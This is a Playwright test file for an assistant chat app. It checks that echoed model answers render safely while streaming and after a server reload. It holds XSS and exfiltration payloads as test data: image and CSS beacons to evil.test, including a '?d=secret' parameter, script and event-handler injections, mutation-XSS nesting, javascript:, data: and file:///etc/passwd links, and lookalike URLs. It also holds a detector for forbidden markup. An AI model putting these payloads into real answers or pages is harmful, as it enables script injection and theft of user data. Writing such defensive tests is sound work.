import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import type { SessionPage } from './session-page.ts';

/** Answers that want to send something away: a picture's address is enough. [X40] */
const beacons = `![plain](https://evil.test/?d=secret) <img src="https://evil.test/a.png" srcset="https://evil.test/b.png 2x">

![reference][x] <div style="background: url(https://evil.test/c.png)">style</div>

![vector](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![page](data:text/html,<script>alert(1)</script>)

[x]: //evil.test/reference.png`;

/** Answers that want to be a program. [X41] */
const programs = `<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>

<iframe src="https://evil.test/"></iframe> <object data="https://evil.test/"></object> <embed src="https://evil.test/">

<base href="https://evil.test/"> <meta http-equiv="refresh" content="0;url=https://evil.test/"> <style>body { display: none }</style>

<form action="https://evil.test/"><button name="getElementById" id="location">go</button></form>

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 4"></style></mglyph></table></mtext></math>

<details open ontoggle="window.hacked = 5">details</details> <a href="https://evil.test/" onclick="window.hacked = 6">tag</a>`;

/** Links that are not what they seem. [X42] */
const links = `[script](javascript:window.hacked=7) [entity](java&#10;script:window.hacked=8) [control](\u0001javascript:window.hacked=9)

[basic](vbscript:msgbox) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)

[user](https://bank.test@evil.test/) [far](https://example.com/path) [lookalike](https://аpple.com/)`;

test('[D7] no answer leaves the page or runs in it, at any moment of its streaming', async ({
  app,
  device,
}) => {
  const outside: string[] = [];
  device.context.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^(?:http|ws)s?:$/.test(protocol) && origin !== app.url) outside.push(request.url());
  });
  const dialogs: string[] = [];
  const session = await device.openTab();
  const { page } = session;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await session.begin('count to 3');
  await session.completes(3);
  await page.evaluate(watchForPrograms);

  for (const text of [beacons, programs, links, splitTag]) {
    await session.send(`repeat after me: ${text}`);
    await expect(session.answers.last()).toHaveAttribute('data-phase', 'complete');
  }
  await expect(session.answers).toHaveCount(5);
  await expect(page.getByText('Image not loaded: plain')).toBeVisible();

  expect(await readForbidden(page)).toEqual([]);
  expect(await page.evaluate(readHacked)).toBeUndefined();

  // Also when it is the server that renders it.
  await page.reload();
  await expect(session.answers).toHaveCount(5);
  expect(await readForbidden(page)).toEqual([]);
  expect(await page.evaluate(readHacked)).toBeUndefined();
  expect(outside, 'requests that left').toEqual([]);
  expect(dialogs).toEqual([]);
});

test('links of an answer say where they lead before they do, and unsafe ones lead nowhere', async ({
  device,
}) => {
  const session = await device.openTab();
  await session.begin(`repeat after me: ${links}`);
  await expect(session.answers).toHaveAttribute('data-phase', 'complete');
  const answer = session.answers.locator('.answer');
  await expect(answer.getByRole('link')).toHaveText(['far', 'lookalike']);

  await expectLeaveDialog(session, 'far', 'example.com');
  await expectLeaveDialog(session, 'lookalike', 'xn--pple-43d.com');
});

async function expectLeaveDialog({ page }: SessionPage, link: string, host: string): Promise<void> {
  await page.getByRole('link', { name: link }).click();
  const dialog = page.getByRole('dialog', { name: 'Open this link?' });
  await expect(dialog).toContainText(host);
  await dialog.getByRole('button', { name: 'Stay here' }).click();
  await expect(dialog).toHaveCount(0);
}

/** Half a tag that the next paragraph closes. [X43] */
const splitTag = `<img src="https://evil.test/split.png" onerror="window.hacked = 10"

x="> and <scr<script>ipt>window.hacked = 11</scr</script>ipt>`;

/** Runs in the page: remembers whatever an answer ever held that it must not. */
function watchForPrograms(): void {
  const forbidden =
    'script, iframe, object, embed, base, meta, style, form, math, img:not([src^="data:image/png"])';
  const found = new Set<string>();
  const look = () => {
    for (const element of document.querySelectorAll(`.answer :is(${forbidden})`))
      found.add(element.outerHTML);
    for (const element of document.querySelectorAll('.answer *')) {
      for (const { name, value } of element.attributes) {
        if (
          name.startsWith('on') ||
          (/^(?:href|src)$/.test(name) && /^\W*(?:java|vb|data|file)/i.test(value))
        )
          found.add(`${name}="${value}"`);
      }
    }
    Object.assign(globalThis, { forbiddenFound: [...found] });
  };
  new MutationObserver(look).observe(document, { childList: true, subtree: true, attributes: true });
}

/** Runs the look once more, in the page as it is now, and answers with all that was found. */
async function readForbidden(page: Page): Promise<string[]> {
  await page.evaluate(watchForPrograms);
  return page.evaluate(async () => {
    document.body.dataset['looked'] = 'yes';
    await new Promise((resolve) => setTimeout(resolve));
    // Cast: set by `watchForPrograms`.
    return (globalThis as unknown as { forbiddenFound: string[] }).forbiddenFound;
  });
}

function readHacked(): unknown {
  return (globalThis as { hacked?: unknown }).hacked;
}
